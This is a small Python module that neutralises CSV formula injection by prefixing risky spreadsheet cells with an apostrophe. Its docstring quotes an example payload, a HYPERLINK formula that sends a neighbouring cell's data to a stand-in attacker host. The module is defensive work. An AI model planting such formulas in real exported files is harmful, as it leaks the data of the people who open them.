"""CSV cells that are safe to open in a spreadsheet (the OWASP CSV-injection rule).

A cell that starts with ``=``, ``+``, ``-`` or ``@`` is a formula to Excel, LibreOffice and
Google Sheets: ``=HYPERLINK("https://evil.example/?"&A2, "click")`` in a participant's name
would run when the organizer opens the delivery list. A tab or carriage return at the start
can smuggle one in too. Such a cell gets a leading apostrophe, which spreadsheets show as
text and hide; every other cell is left exactly as it was.
"""

from __future__ import annotations

_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: str) -> str:
    """``value``, prefixed with "'" when a spreadsheet would read it as a formula."""
    text = str(value)
    return "'" + text if text.startswith(_TRIGGERS) else text
